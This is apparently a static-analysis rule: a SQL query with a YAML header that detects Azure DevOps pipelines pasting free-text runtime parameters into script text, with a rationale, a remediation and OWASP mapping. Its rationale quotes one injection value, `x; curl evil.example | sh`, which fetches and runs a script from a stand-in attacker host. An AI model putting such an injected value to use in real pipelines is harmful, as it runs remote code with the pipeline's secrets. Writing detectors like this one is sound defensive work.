/*
id: yaml.parameter_injection
title: Free-text runtime parameters are pasted into scripts
severity: medium
resource_type: build_definitions
description: >
  A YAML pipeline declares a runtime parameter of type string (the default type) without a `values:` list,
  and a script step or inline task script writes it into the script's text with a template expression
  (`${{ parameters.name }}` or `${{ parameters['name'] }}`).
rationale: >
  Template expressions are replaced in the script's text before the shell parses it, so a value such as
  `x; curl evil.example | sh` typed when queueing a run becomes code, run with the pipeline's secrets and
  service connections by anyone who may queue it. Microsoft recommends typed parameters with a fixed list of
  values and passing values to scripts through environment variables.
  Source: learn.microsoft.com/azure/devops/pipelines/security/inputs (parameters) and
  learn.microsoft.com/azure/devops/pipelines/process/runtime-parameters.
remediation: >
  Give the parameter a `values:` list (or a boolean or number type), or map it into the step's env
  (`env: TABLE: ${{ parameters.tableName }}`) and use "$TABLE" quoted in the script, validating it first.
anchors:
  owasp: [CICD-SEC-4]
requires: [pipeline_yaml_elements]
*/
WITH free_text AS (
    SELECT project_id, definition_id, name
    FROM azure_devops.pipeline_yaml_elements
    WHERE kind = 'parameter'
      AND lower(parameter_type) = 'string'
      AND allowed_values IS NULL
      AND regexp_matches(coalesce(name, ''), '^[A-Za-z_][A-Za-z0-9_]*$')
), hits AS (
    SELECT e.*, e.location || ' (parameters.' || p.name || ')' AS detail
    FROM azure_devops.pipeline_yaml_elements AS e
    JOIN free_text AS p ON p.project_id = e.project_id AND p.definition_id = e.definition_id
    WHERE e.kind = 'script'
      AND regexp_matches(coalesce(e.value, ''),
                         '(?i)\$\{\{[^}]*\bparameters(\.' || p.name || '\b|\[\s*''' || p.name || '''\s*\])')
)
SELECT * EXCLUDE (details),
       'Pipeline "' || resource_name || '" pastes free-text runtime parameters into scripts at '
           || array_to_string(details, ', ') AS message
FROM yaml_pipeline_findings(hits)
